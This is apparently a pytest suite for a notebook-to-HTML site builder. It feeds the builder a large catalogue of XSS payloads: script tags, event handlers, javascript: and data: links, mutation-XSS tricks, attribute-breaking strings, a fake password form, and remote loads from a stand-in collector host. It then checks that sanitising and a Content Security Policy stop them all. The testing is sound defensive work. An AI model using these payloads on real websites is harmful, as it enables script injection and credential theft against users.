"""The reader's edition, built from notebooks that want to run code in their readers' browsers or to call home."""
# ruff: noqa: E501 – an attack stands on one line

import json
import re
import shutil
from base64 import b64encode
from pathlib import Path

import make_html
import pytest
from bs4 import BeautifulSoup
from PIL import Image

HOST = "https://collector.example"
PIXEL = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='hit()' width='9' height='9'><script>top.hit()</script></svg>"

MARKUP = {  # what may stand in an output of type text/html, and in Markdown
    "script": "<script>hit()</script>",
    "script elsewhere": f"<script src='{HOST}/x.js'></script>",
    "script as a module": "<script type=module>hit()</script>",
    "onerror": "<img src=nothing onerror=hit()>",
    "onload": "<svg onload=hit()></svg><body onload=hit()>",
    "onfocus": "<input autofocus onfocus=hit()>",
    "ontoggle": "<details open ontoggle=hit()><summary>fold</summary></details>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=hit()>p</p>",
    "iframe": "<iframe srcdoc='<script>parent.hit()</script>'></iframe><iframe src='javascript:parent.hit()'></iframe>",
    "object": f"<object data='{HOST}/x.svg'></object><embed src='{HOST}/x.svg'>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "base": f"<base href='{HOST}/'>",
    "stylesheet": f"<link rel=stylesheet href='{HOST}/x.css'><style>@import '{HOST}/x.css';</style>",
    "style": f"<p style=\"background: url('{HOST}/x.png'); position: fixed; inset: 0\">over all</p>",
    "form": f"<form action='{HOST}'><input name=password type=password><button>Log in</button></form>",
    "javascript": "<a href='javascript:hit()' class=bait>a</a> <a href=' jAvAsCrIpT:hit()' class=bait>b</a>",
    "javascript, hidden": "<a href='java&#x09;script:hit()' class=bait>a</a> <a href='&#1;javascript:hit()' class=bait>b</a>",
    "data": "<a href='data:text/html,<script>hit()</script>' class=bait>a</a> <img src='data:text/html,x'>",
    "vbscript, blob": "<a href='vbscript:hit()' class=bait>a</a> <a href='blob:x' class=bait>b</a>",
    "picture elsewhere": f"<img src='{HOST}/x.png'><img src='//collector.example/x.png'><img src='\\\\collector.example/x'>",
    "srcset elsewhere": f"<picture><source srcset='{HOST}/x.png 1x'><img srcset='{HOST}/y.png' src='{HOST}/z.png'></picture>",
    "video": f"<video src='{HOST}/x.mp4' autoplay onerror=hit()></video><audio src='{HOST}/x' autoplay></audio>",
    "mathml": "<math><mi href='javascript:hit()' class=bait>x</mi><maction xlink:href='javascript:hit()'>y</maction></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'></table>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "textarea": "<textarea></textarea><img src=x onerror=hit()></textarea><title><img src=x onerror=hit()></title>",
    "template": "<template><script>hit()</script></template><slot onslotchange=hit()></slot>",
    "comment": "<!--><img src=x onerror=hit()>--><![CDATA[<img src=x onerror=hit()>]]>",
    "names of the page": "<div id=contents popover>mine</div><img name=querySelector><img name=body id=scrub>",
    "classes of the page": "<figure class=scrubber><input></figure><div class=tools></div><nav class=contents></nav>",
    "the page's end": "</div></div></main></body></html><script>hit()</script>",
}


def code(output, **metadata):
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": metadata,
        "source": "1",
        "outputs": [output],
    }


def shown(data, **metadata):
    return code({"output_type": "display_data", "data": data, "metadata": metadata})


def markdown(text, **more):
    return {"cell_type": "markdown", "metadata": {}, "source": text, **more}


ATTRIBUTE = '"><script>hit()</script><img src=x onerror=hit() alt="'
CELLS = [
    markdown(
        "# A title <img src=x onerror=hit()> <script>hit()</script>\n\n"
        "> **After this notebook you can** be <img src=x onerror=hit()> sorry.\n>\n> **Time**: 9 minutes"
    ),
    markdown("## A heading <svg onload=hit()> [x](javascript:hit())\n\n## Contents\n\n## Content"),
    markdown("[a](javascript:hit()) [b](JavaScript:hit()) [c](vbscript:hit()) [d](data:text/html,<script>hit()</script>)"),
    markdown(f"![a]({HOST}/x.png) ![b](attachment:x) $\\text{{<img src=x onerror=hit()>}}$",
             attachments={"x": {"image/svg+xml": b64encode(SVG.encode()).decode()}}),
    markdown("<a href='javascript:hit()'>Markdown within</a>\n\n```x\"><script>hit()</script>\ncode\n```"),
    *[markdown(f"{name}: {markup}") for name, markup in MARKUP.items()],
    *[shown({"text/html": f"{name}: {markup}"}) for name, markup in MARKUP.items()],
    shown({"text/html": "<script>hit()</script>"}, **{"text/html": {"isolated": True}}),
    shown({"application/javascript": "hit()"}),
    shown({"image/svg+xml": SVG}),
    shown({"text/markdown": "<img src=x onerror=hit()> [x](javascript:hit())"}),
    shown({"text/latex": "<img src=x onerror=hit()>"}),
    shown({"image/png": PIXEL, "text/plain": "x"}, **{"image/png": {
        "width": "9 onload=hit()", "height": ATTRIBUTE, "alt": ATTRIBUTE, "unconfined": ATTRIBUTE}}),
    shown({"image/png": PIXEL + ATTRIBUTE}),
    shown({"image/gif": PIXEL}, **{"image/gif": {"alt": ATTRIBUTE}}),
    shown({"image/gif": PIXEL + ATTRIBUTE}),
    shown({"image/gif": PIXEL}, **{"image/gif": {"alt": '"> <img src="figures/x.gif" onerror=hit()>'}}),
    shown({"image/gif": "no picture"}),
    markdown('<img src="../x.gif"> <img src="/x.gif"> <img alt=\'<img src="figures/x.gif" onerror=hit()>\'>'),
    shown({"text/plain": f"○ {ATTRIBUTE}\n○ <script>hit()</script>"}),
    shown({"text/plain": "GuidanceLab: <script>hit()</script>"}),
    shown({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>hit()</script>"}}),
    code({"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>hit()</script>\x1b]8;;javascript:hit()\x07x"}),
    code({"output_type": "error", "ename": "<script>hit()</script>", "evalue": "x", "traceback": ["<img src=x onerror=hit()>"]}),
    code({"output_type": "stream", "name": "x onclick=hit()", "text": "x"}, tags=['x" onclick="hit()', ATTRIBUTE]),
    {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": "<script>hit()</script>"},
]  # fmt: skip
NOTEBOOK = {
    "nbformat": 4, "nbformat_minor": 5, "cells": [{"id": f"cell-{at}", **cell} for at, cell in enumerate(CELLS)],
    "metadata": {
        "language_info": {"name": ATTRIBUTE, "pygments_lexer": ATTRIBUTE}, "title": ATTRIBUTE,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>hit()</script>"}}},
    },
}  # fmt: skip


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A course of hostile files, as a site."""
    course = tmp_path_factory.mktemp("hostile")
    files = {
        "README.md": "# A course <script>hit()</script>\n\n<img src=x onerror=hit()> [x](javascript:hit())\n\n## More",
        "notebooks/00_hostile.ipynb": json.dumps(NOTEBOOK),
        "notebooks/glossary.md": "# Glossary\n\n[code](code.py) <img src='figures/x.gif'> ![](../figures/x.gif)",
        "notebooks/teaching.md": "# Teaching\n\n</script><script>hit()</script>",
        "notebooks/code.py": "~~~~~\n<script>hit()</script>\n'</pre><img src=x onerror=hit()>'",
        "pyproject.toml": '[project.urls]\nRepository = "https://github.com/own/name\\"><script>hit()</script>"\n'
        'Documentation = "https://own.example/\\"><script>hit()</script>"',
    }
    for name, text in files.items():
        (course / name).parent.mkdir(exist_ok=True)
        (course / name).write_text(text, encoding="utf-8")
    (course / "figures").mkdir()
    Image.new("L", (2, 2)).save(course / "figures" / "x.gif")
    frame = Image.new("P", (300, 150 * len(make_html.WEIGHTS)))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(make_html, "REPOSITORY", course)
        patch.setattr(make_html.lab_page, "parts_or_none", lambda *_: None)  # the lab holds nothing of a notebook
        patch.setattr(make_html, "scrubber_frames", lambda: (frame, ["caption"] * len(make_html.WEIGHTS)))
        with pytest.warns(UserWarning, match="No lexer found"):  # for a language with such a name
            make_html.build(course / "site")
    yield course / "site"
    shutil.rmtree(course)


def pages(site):
    return {path.name: BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser") for path in site.glob("*.html")}


def test_nothing_that_runs_is_written(site):
    scripts = {path.read_text(encoding="utf-8") for path in make_html.READER.glob("*.js")}
    scripts |= {make_html.search_page.library()} if (site / "search.html").exists() else set()
    for name, soup in pages(site).items():
        for script in soup.select("script:not([type='application/json'])"):
            assert script.string in scripts, name
        assert not soup.select(
            "iframe, object, embed, base, style, template, math style, svg, video, audio, noscript img"
        )
        assert len(soup.select("meta[http-equiv], link[rel=stylesheet]")) == 2
        for element in soup.select("*"):
            assert not [attribute for attribute in element.attrs if attribute.startswith("on")], element
            for value in (element.get("href", ""), element.get("src", ""), element.get("srcset", "")):
                address = re.sub(r"[\x00-\x20]", "", value).lower()
                assert re.match(r"https?://|data:image/|[\w.#-][\w./?=#%-]*$|$", address), element
                if element.name != "a":
                    assert "collector" not in address, element
        for form in soup.select("form"):
            assert form["action"] == "search.html"
        for field in soup.select("main input"):
            assert field.get("type") in ("radio", "range", "search", None)
        for styled in soup.select("main [style]"):
            assert "url(" not in styled["style"]
            assert "position" not in styled["style"]


def test_what_is_harmless_stays(site):
    """The cleaning does not simply empty the pages."""
    page = pages(site)["00_hostile.html"]
    text = page.get_text()
    for name in MARKUP:
        assert text.count(name) >= 2, name
    assert page.select("math mtext")
    assert len(page.select("main input[type=radio]")) == 2
    assert page.select_one(f"a[href^='{HOST}']"), "a picture elsewhere becomes a link"
    assert page.select("img[src^='data:image/svg+xml']"), "a drawing that can't run anything"
    assert page.find(id="contents").name == "nav", "a heading does not take the page's own names"
    assert "url(" not in str(page.select("[style]"))
    assert len(pages(site)["glossary.html"].select("picture source[media*=reduced]")) == 2


@pytest.mark.browser
@pytest.mark.filterwarnings("default")
def test_nothing_runs_in_a_browser(site, chromium):
    browser_type, options = chromium
    browser = browser_type.launch(**options)
    trouble = []
    for path in sorted(site.glob("*.html")):
        context = browser.new_context()
        page = context.new_page()
        page.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1; }")
        page.on("request", lambda sent: sent.url.startswith(("file:", "data:")) or trouble.append(sent.url))
        page.on("console", lambda message, path=path: trouble.append(f"{path.name}: {message.text}"))
        page.on("pageerror", lambda error, path=path: trouble.append(f"{path.name}: {error}"))
        page.goto(path.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        page.wait_for_timeout(300)
        for bait in page.locator("main a:not([href*='.html']):not([href^=http]):not([download])").all():
            bait.dispatch_event("click")
        page.wait_for_timeout(200)
        assert page.evaluate("window.hits") == 0, path.name
        assert page.url.partition("#")[0] == path.as_uri(), "a link led away"
        context.close()
    browser.close()
    # Pictures that name no file, or hold none, are no harm.
    assert [text for text in trouble if not re.search("ERR_FILE_NOT_FOUND|ERR_INVALID_URL", text)] == []


@pytest.mark.browser
@pytest.mark.filterwarnings("default")
def test_the_policy_stops_what_cleaning_would_miss(site, chromium, tmp_path):
    """The second line: the same page, with the hostile markup put in after the cleaning."""
    text = (site / "00_hostile.html").read_text(encoding="utf-8")
    payload = (
        f"<script>hit()</script><img src=x onerror=hit()><img src='{HOST}/x.png'><a id=go href='javascript:hit()'>x</a>"
    )
    payload += f"<iframe src='{HOST}'></iframe><form id=send action='{HOST}'></form><base href='{HOST}/'>"
    (tmp_path / "page.html").write_text(text.replace("</main>", f"{payload}</main>"), encoding="utf-8")
    shutil.copy(Path(site) / "style.css", tmp_path)
    browser_type, options = chromium
    browser = browser_type.launch(**options)
    page = browser.new_page()
    page.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1; }")
    loaded, refused = [], []
    page.on("requestfinished", lambda sent: loaded.append(sent.url))
    page.on("console", lambda message: refused.append(message.text))
    page.goto((tmp_path / "page.html").as_uri())
    page.locator("#go").dispatch_event("click")
    page.evaluate("document.getElementById('send').requestSubmit()")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hits") == 0
    assert page.url.startswith("file:")
    assert not [url for url in loaded if HOST in url]
    refusals = [text for text in refused if "Content Security Policy" in text]
    assert len(refusals) >= 6, refused
    assert page.evaluate("document.baseURI").startswith("file:")
    browser.close()
